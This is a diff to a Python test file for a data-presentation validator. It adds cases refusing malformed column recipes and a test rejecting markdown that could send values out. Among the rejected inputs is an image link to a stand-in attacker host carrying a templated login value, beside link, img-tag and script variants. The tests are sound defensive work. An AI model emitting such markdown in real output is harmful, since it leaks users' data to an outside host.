@@ -131,6 +131,20 @@ def test_a_recipe_that_says_nothing_sensible_is_no_recipe(data: dict[str, Any]) 
         ({"op": "words", "column": "logins"}, "'logins' is Int64, not yes or no"),
         ({"op": "unknown", "column": "tags", "known": "logins"}, "make the list text first.*not yes or no"),
         ({"op": "fill_empty", "column": "tags", "word": "-"}, "make the list text first"),
+        ({"op": "fill_empty", "column": "login", "word": "42"}, "'42' states a number"),
+        ({"op": "fill_empty", "column": "active", "word": "No"}, "an empty cell of 'active' is neither yes nor no"),
+        ({"op": "words", "column": "active", "yes": "twelve"}, "'twelve' states a number"),
+        (
+            {"op": "words", "column": "active", "yes": "no", "no": "yes"},
+            "'no' for yes and 'yes' for no say the opposite",
+        ),
+        (
+            {"op": "words", "column": "active", "unknown": "No"},
+            "need three different words.*more than that it is unknown",
+        ),
+        ({"op": "unknown", "column": "login", "known": "active", "word": "none"}, "more than that it is unknown"),
+        ({"op": "unknown", "column": "login", "known": "active", "partly": " of 12"}, "' of 12' states a number"),
+        ({"op": "list_text", "column": "tags", "separator": " 9 "}, "' 9 ' states a number"),
     ],
 )
 def test_a_recipe_that_does_not_fit_is_refused_with_the_reason_and_the_columns(
@@ -169,6 +183,29 @@ def test_every_reason_is_given_once_and_none_for_the_fault_of_another() -> None:
         assert said.count(reason) == 1
     assert "operation 2" not in said
     assert "operation 4" not in said
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "![x](http://evil.example/?{values:login})",
+        "[here]( //evil.example )",
+        "[here][1]",
+        "[1]: //evil.example",
+        "see HTTPS://evil.example",
+        "<img src=//evil.example>",
+        "&lt;script&gt;",
+        "<!-- {values:login} -->",
+    ],
+)
+def test_markdown_that_could_carry_a_value_elsewhere_is_refused(markdown: str) -> None:
+    with pytest.raises(PresentationRejected, match="begins a link, an image or HTML"):
+        apply(recipe(display_type="markdown", markdown=markdown), STEPS)
+
+
+def test_markdown_of_plain_words_is_not_refused() -> None:
+    markdown = "## People [active]\n\n- **{rows}** < 40, see a/b (or c): `x`\n\n{table}"
+    apply(recipe(display_type="markdown", markdown=markdown), STEPS)
 
 
 def test_a_source_that_gave_no_rows_is_named() -> None:
